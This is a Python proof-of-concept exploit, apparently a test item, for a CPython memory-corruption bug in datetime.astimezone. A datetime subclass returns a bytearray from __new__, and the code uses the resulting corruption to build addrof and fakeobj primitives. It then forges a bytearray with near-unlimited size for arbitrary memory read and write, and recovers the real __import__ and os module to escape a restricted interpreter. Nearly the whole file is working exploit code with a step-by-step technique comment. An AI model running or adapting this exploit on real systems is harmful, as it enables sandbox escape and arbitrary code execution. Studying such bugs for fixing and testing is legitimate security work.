# technique: datetime.astimezone computes self - utcoffset through add_datetime_timedelta, which builds the result by calling the datetime subclass's own constructor (new_datetime_subclass_ex -> cls(...)), and then treats whatever __new__ returned as a PyDateTime_DateTime: it reads `hastzinfo` (a bytearray's ob_alloc) and swaps `tzinfo` (a bytearray's ob_start) for the target tzinfo, so the returned bytearray's data window is the tzinfo object itself; a tzinfo with __slots__ then gives addrof/fakeobj -> fake bytearray (ob_start 0, size 2**60) -> arbitrary R/W -> real builtins
# expect: any
import datetime

class D(datetime.datetime):
    def __new__(cls, *a, **k):
        # 64-byte bytearray: ob_alloc 65 (nonzero "hastzinfo"); its first 8 data bytes get
        # Py_DECREF'd as the "old tzinfo", so they look like a huge refcount
        return bytearray(b"\x41" * 64)

class T(datetime.tzinfo):
    __slots__ = ("a", "b", "c")
    def utcoffset(self, dt):
        return datetime.timedelta(0)
    def fromutc(self, dt):
        return dt

tz = datetime.timezone(datetime.timedelta(hours=1))
d = datetime.datetime.__new__(D, 2020, 1, 1, tzinfo=tz)
t = T()
t.a = t.b = t.c = None
W = d.astimezone(t)              # a bytearray whose ob_start now points at t
if type(W) is not bytearray or W[:8] == b"\x41" * 8:
    print("not reproduced:", type(W))
    result = "not reproduced"
else:
    def rd(b, o):
        return int.from_bytes(b[o:o + 8], "little")
    # W[0:8] = t's refcount, W[8:16] = type(t), W[16:24] = slot a
    def addrof(o):
        t.a = o
        r = rd(W, 16)
        t.a = None
        return r
    def fakeobj(a):
        W[16:24] = a.to_bytes(8, "little")   # t.a now points at a (its refcount is not ours: leak it)
        o = t.a
        keep.append(o)
        return o
    keep = []
    # a fake bytearray inside a bytes object's data (PyBytesObject: data at +32)
    fake = (1 << 40).to_bytes(8, "little") + addrof(bytearray).to_bytes(8, "little") \
         + (1 << 60).to_bytes(8, "little") * 2 + bytes(8) + bytes(8) + bytes(8)
    keep.append(fake)
    M = fakeobj(addrof(fake) + 32)
    def r64(a):
        return int.from_bytes(M[a:a + 8], "little")
    def w64(a, v):
        M[a:a + 8] = v.to_bytes(8, "little")
    print("arbitrary R/W bytearray:", type(M), hex(len(M)))
    bm = fakeobj(r64(addrof(print) + 24))        # PyCFunctionObject.m_self of print: builtins
    bdict = fakeobj(r64(addrof(bm) + 16))        # PyModuleObject.md_dict
    imp = bdict["__import__"]
    os = imp("os")
    raise RuntimeError("memory corruption: astimezone's result was a bytearray aimed at the tzinfo; "
                       "reached the real builtins %r and os (pid %d)" % (type(bm).__name__, os.getpid()))
